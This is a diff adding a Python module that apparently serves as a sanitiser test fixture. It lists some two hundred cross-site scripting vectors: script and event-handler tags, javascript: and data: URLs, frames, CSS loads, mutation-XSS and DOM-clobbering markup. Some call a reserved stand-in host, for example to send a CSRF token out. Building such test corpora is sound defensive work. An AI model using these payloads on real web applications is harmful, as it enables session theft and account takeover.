@@ -1,0 +1,237 @@
+"""Markup that would run a script or call another host if a sanitiser let it.
+
+The kinds are those of public collections, looked at on 2026-11-22: the OWASP XSS Filter Evasion Cheat Sheet, the
+PortSwigger cross-site scripting cheat sheet, the HTML5 Security Cheat Sheet (html5sec.org), and published work on
+mutation XSS (markup that becomes dangerous when it is parsed a second time). Written anew here: each calls `alarm`, or
+asks MARKER for something.
+"""
+
+from typing import Final
+
+MARKER: Final = "alarm.invalid"
+"""A host that nothing may ask."""
+CALL: Final = "alarm(1)"
+
+_AT: Final = f"https://{MARKER}"
+_ENCODED: Final = "".join(f"&#{ord(sign)};" for sign in f"javascript:{CALL}")
+_HEX: Final = "".join(f"&#x{ord(sign):x}" for sign in f"javascript:{CALL}")
+_PADDED: Final = "".join(f"&#{ord(sign):07}" for sign in f"javascript:{CALL}")
+_DATA: Final = f"data:text/html,<script>parent.{CALL}</script>"
+
+_SCRIPTS: Final = (
+    f"<script>{CALL}</script>",
+    f"<ScRiPt>{CALL}</sCrIpT>",
+    f"<script src={_AT}/x.js></script>",
+    f"<script src=//{MARKER}/x.js></script>",
+    f"<script/x src={_AT}/x.js></script>",
+    f"<script\n>{CALL}</script\t>",
+    f"<<script>{CALL}//<</script>",
+    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
+    f"<script type=module>{CALL}</script>",
+    f'<script type="importmap">{{"imports":{{"x":"{_AT}/x.js"}}}}</script>',
+    f"<svg><script>{CALL}</script></svg>",
+    f"<svg><script href={_AT}/x.js /></svg>",
+    f"<svg><script xlink:href={_AT}/x.js /></svg>",
+    f"<math><script>{CALL}</script></math>",
+    f"</title></style></textarea></xmp></noscript><script>{CALL}</script>",
+    f"</script><script>{CALL}</script>",
+    f'"></div></form></table></dialog><script>{CALL}</script>',
+    f'\';{CALL};//";{CALL};//--></script>"><script>{CALL}</script>',
+    f"<template><script>{CALL}</script></template>",
+    f"<noscript><script>{CALL}</script></noscript>",
+    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
+    f"<![CDATA[<script>{CALL}</script>]]>",
+    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
+    f"<% <script>{CALL}</script> %>",
+)
+
+_HANDLERS: Final = (
+    f"<img src=x onerror={CALL}>",
+    f'<img src="x" onerror="{CALL}">',
+    f"<img src=x onerror='{CALL}'>",
+    f"<img src=x onerror=`{CALL}`>",
+    f"<img/src=x/onerror={CALL}>",
+    f"<img src=x:x onerror\n=\n{CALL}>",
+    f"<img src=x OnErRoR={CALL}>",
+    f"<img\x0csrc=x\x0conerror={CALL}>",
+    f'<img """><script>{CALL}</script>">',
+    f'<img src="x` `<script>{CALL}</script>"` `>',
+    f"<img src=x a='>' onerror={CALL}>",
+    f'<img src=x alt="`><img src=x onerror={CALL}>">',
+    f"<img src=x title='\"><img src=x onerror={CALL}>'>",
+    f"<img src=x alt='</p><img src=x onerror={CALL}>'>",
+    f"<image src=x onerror={CALL}>",
+    "<img src=x onerror=&#97;larm(1)>",
+    "<img src=x onerror=\\u0061larm(1)>",
+    f"<img src=x onload={CALL}><img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={CALL}>",
+    f"<img srcset='x' onerror={CALL}>",
+    f"<svg onload={CALL}>x</svg>",
+    f"<svg/onload={CALL}>x</svg>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s /></svg>",
+    f"<svg><set onbegin={CALL} attributeName=x dur=1s /></svg>",
+    f"<svg><image href=x onerror={CALL} /></svg>",
+    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
+    f"<math><mi onclick={CALL} tabindex=1 autofocus onfocus={CALL}>x</mi></math>",
+    f"<body onload={CALL}>",
+    f"<body onpageshow={CALL} onhashchange={CALL}>",
+    f"<input autofocus onfocus={CALL}>",
+    f"<select autofocus onfocus={CALL}><option>x</select>",
+    f"<textarea autofocus onfocus={CALL}>x</textarea>",
+    f"<button autofocus onfocus={CALL}>x</button>",
+    f"<a href=# autofocus tabindex=1 onfocus={CALL}>x</a>",
+    f"<a onmouseover={CALL} onclick={CALL} onpointerover={CALL}>x</a>",
+    f"<p tabindex=0 autofocus onfocus={CALL} onmouseenter={CALL}>x</p>",
+    f"<details open ontoggle={CALL}><summary>x</summary>y</details>",
+    f"<details open><summary onclick={CALL}>x</summary></details>",
+    f"<dialog open onclose={CALL}><form method=dialog><button>x</button></form></dialog>",
+    f"<video src=x onerror={CALL}></video>",
+    f"<video><source onerror={CALL} src=x></video>",
+    f"<audio src=x onerror={CALL}></audio>",
+    f"<video poster={_AT}/x.png></video>",
+    f"<marquee onstart={CALL}>x</marquee>",
+    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={CALL}>x</p>",
+    f"<p style=transition:1s ontransitionend={CALL}>x</p>",
+    f"<p contenteditable onbeforeinput={CALL} oninput={CALL} onpaste={CALL}>x</p>",
+    f"<object data=x onerror={CALL}></object>",
+    f"<div onscrollend={CALL} oncontentvisibilityautostatechange={CALL} style=content-visibility:auto>x</div>",
+    f"<button popovertarget=pop>x</button><div id=pop popover onbeforetoggle={CALL}>y</div>",
+    f"<xss onfocus={CALL} autofocus tabindex=1>x</xss>",
+    f"<x-own onclick={CALL} style=display:block>x</x-own>",
+    f"<p lang='en' onclick={CALL} dir=ltr>x</p>",
+    f"<td onclick={CALL}>x</td><li onclick={CALL}>y</li>",
+    f"<sup data-source=\"S1\" onclick={CALL}></sup><dfn data-term='t1' onclick={CALL}>t</dfn>",
+    f"<aside data-callout=key onclick={CALL}>x</aside><ol start=2 onclick={CALL}><li>y</ol>",
+)
+
+_ADDRESSES: Final = (
+    f"<a href=javascript:{CALL}>x</a>",
+    f"<a href='JaVaScRiPt:{CALL}'>x</a>",
+    f"<a href=' \x01javascript:{CALL}'>x</a>",
+    f"<a href='java\tscript:{CALL}'>x</a>",
+    f"<a href='java\nscript:{CALL}'>x</a>",
+    f"<a href='java&#x0d;script:{CALL}'>x</a>",
+    f"<a href='jav&#x09;ascript&colon;{CALL}'>x</a>",
+    "<a href='java&Tab;script&colon;alarm&lpar;1&rpar;'>x</a>",
+    f"<a href='java&NewLine;script:{CALL}'>x</a>",
+    f"<a href='&#14; javascript:{CALL}'>x</a>",
+    f'<a href="{_ENCODED}">x</a>',
+    f"<a href={_PADDED}>x</a>",
+    f"<a href={_HEX}>x</a>",
+    f"<a href=javascript&#58;{CALL}>x</a>",
+    f"<a href='javascript://example.org/%0A{CALL}'>x</a>",
+    f"<a href='javascript:/*--></title></style>*/{CALL}'>x</a>",
+    f'<a href="{_DATA}">x</a>',
+    f"<a href='vbscript:{CALL}'>x</a>",
+    f"<a href='blob:{_AT}/x' download>x</a>",
+    f"<a href=x ping={_AT}/ping>x</a>",
+    f"<img src=javascript:{CALL}>",
+    f"<img src='jav\tascript:{CALL}'>",
+    f"<img src={_ENCODED}>",
+    f"<img dynsrc=javascript:{CALL} lowsrc=javascript:{CALL}>",
+    f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{CALL}%22/>'>",
+    f"<img srcset='{_AT}/x.png 1x'>",
+    f"<table background={_AT}/x.png><td background=javascript:{CALL}>x</table>",
+    f"<blockquote cite=javascript:{CALL}>x</blockquote>",
+    f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>",
+    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=20>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={CALL}/>#x'/></svg>",
+    f"<math href=javascript:{CALL}><mtext>x</mtext></math>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
+    f"<map name=m><area shape=default href=javascript:{CALL}></map><img usemap=#m src=x>",
+)
+
+_HOLDERS: Final = (
+    f"<iframe src=javascript:parent.{CALL}></iframe>",
+    f"<iframe src={_AT}/frame></iframe>",
+    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
+    f"<iframe srcdoc='&lt;img src=x onerror=parent.{CALL}&gt;'></iframe>",
+    f"<frameset onload={CALL}><frame src=javascript:{CALL}></frameset>",
+    f"<object data=javascript:{CALL}></object>",
+    f"<object data={_AT}/x.swf><param name=movie value={_AT}/x.swf></object>",
+    f"<embed src=javascript:{CALL}><embed src={_AT}/x.swf>",
+    f"<applet code=x archive={_AT}/x.jar></applet>",
+    f"<portal src={_AT}/x></portal><fencedframe src={_AT}/y></fencedframe>",
+    f"<form action=javascript:{CALL}><input type=submit></form>",
+    f"<form id=f1></form><button form=f1 formaction=javascript:{CALL}>x</button>",
+    f"<form action={_AT}/steal><input name=csrfmiddlewaretoken></form>",
+    f"<isindex type=image src=1 onerror={CALL}><input type=image src=javascript:{CALL}>",
+    f"<link rel=stylesheet href={_AT}/x.css>",
+    f"<link rel=prefetch href={_AT}/p><link rel=preload as=image href={_AT}/q><link rel=dns-prefetch href=//{MARKER}>",
+    f"<link rel=import href={_AT}/i.html><link rel=manifest href={_AT}/m>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
+    f"<meta http-equiv=refresh content='0;url={_AT}/away'>",
+    "<meta http-equiv=Set-Cookie content='stolen=1'>",
+    "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
+    f"<base href={_AT}/><base target=_top>",
+    f"<style>@import '{_AT}/x.css';</style>",
+    f"<style>p{{background:url({_AT}/x.png)}}</style><p>x</p>",
+    f"<style>*{{background:url('javascript:{CALL}')}}</style>",
+    f'<p style="background:url({_AT}/x.png)">x</p>',
+    f"<p style='width:expression({CALL});behavior:url({_AT}/x.htc);-moz-binding:url({_AT}/x.xml#x)'>x</p>",
+    f"<p style='background:\\75\\72\\6c({_AT}/x.png)'>x</p>",
+    f"<div style='position:fixed;inset:0;z-index:9999'><a href={_AT}/>cover</a></div>",
+    f"<xml id=x><c><![CDATA[<img src=x onerror={CALL}>]]></c></xml><b datasrc=#x datafld=c dataformatas=html></b>",
+    f"<div><template shadowrootmode=open><slot></slot><script>{CALL}</script></template>x</div>",
+)
+
+_MUTATIONS: Final = (
+    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}></style></mglyph></form>",
+    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>"></a></style></svg>',
+    f"<svg><p><style><!--</style><img src=x onerror={CALL}>--></style></p></svg>",
+    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={CALL}></style></annotation-xml></math>',
+    f"<svg><title><style><img src=x onerror={CALL}></style></title></svg>",
+    f"<svg><desc><table><td><style><img src=x onerror={CALL}></style></td></table></desc></svg>",
+    f'<table><caption><svg><title><table></caption><style><a title="</style><img src onerror={CALL}>"></style>',
+    f"<select><iframe></select><img src=x onerror={CALL}></iframe></select>",
+    f"<select><template><style></select><img src=x onerror={CALL}></style></template></select>",
+    f'<p id="</p><script>{CALL}</script>">x</p>',
+    f'<abbr title="&lt;img src=x onerror={CALL}&gt;">x</abbr>',
+    f'<abbr title="</table></dfn></sup><img src=x onerror={CALL}>">x</abbr>',
+    f'<a href="https://example.org/?a=<img src=x onerror={CALL}>">x</a>',
+    f"<a href='https://example.org/\" onclick=\"{CALL}'>x</a>",
+    f"&lt;img src=x onerror={CALL}&gt;",
+    f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
+    f"&lt;script&gt;{CALL}&lt;/script&gt;",
+    f"\ufeff<\u200bscript>{CALL}</script>",
+    f'<img src="pictures/x.svg" alt=\'" onload={CALL} x="\'>',
+    f'<img src="pictures/map.svg" alt=\'"><script>{CALL}</script>\'>',
+    f'<sup data-source="S1&quot;><img src=x onerror={CALL}>"></sup>',
+    f'<dfn data-term="t1"><table title="</dfn><img src=x onerror={CALL}>">x</dfn>',
+    f"<dfn data-term='{{words}}{{meaning}}'><img alt='{{uid}}' src=x onerror={CALL}></dfn>",
+    f'<small data-checked-on="2026-11-22" data-review-by="2026-01-01"><img src=x onerror={CALL}></small>',
+    f"{{{{constructor.constructor('{CALL}')()}}}}{{% debug %}}${{{CALL}}}",
+    f"\\(\\href{{javascript:{CALL}}}{{x}}\\) \\[\\unicode{{<img src=x onerror={CALL}>}}\\]",
+    "<p id=alarm name=attributes><img name=getElementById src=x><a id=cookie href=x>x</a>",
+    "<form id=x><input name=attributes><input name=innerHTML><input name=parentNode></form>",
+)
+
+_OPEN: Final = (
+    f"<iframe src={_AT}/frame <",
+    f"<img src=x onerror={CALL}//",
+    f'<img src="x" onerror="{CALL}',
+    f"<script>{CALL}",
+    f"<svg><style><img src=x onerror={CALL}>",
+    f"<!-- --!><img src=x onerror={CALL}>",
+    f"<!-- ><script>{CALL}</script>",
+    f"<!><img src=x onerror={CALL}><!-",
+    f"<textarea></textarea><img src=x onerror={CALL}><textarea>",
+    f"<title><img src=x onerror={CALL}>",
+    f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
+    f"<plaintext><img src=x onerror={CALL}>",
+    f'<iframe src="javascript:parent.{CALL}',
+    f'<a href="javascript:{CALL}',
+    "<a title='x",
+    f"<svg onload={CALL} ",
+    f'<noembed><img title="</noembed><img src onerror={CALL}>">',
+)
+"""They leave something open, so they stand last in a text."""
+
+CLOSED: Final = (*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_HOLDERS, *_MUTATIONS)
+VECTORS: Final = (*CLOSED, *_OPEN)
+
+
+def all_of_them(place: int) -> str:
+    """All vectors in one text; the one that leaves something open is another one at each place."""
+    return "".join(f"<p>{vector}</p>" for vector in CLOSED) + _OPEN[place % len(_OPEN)]
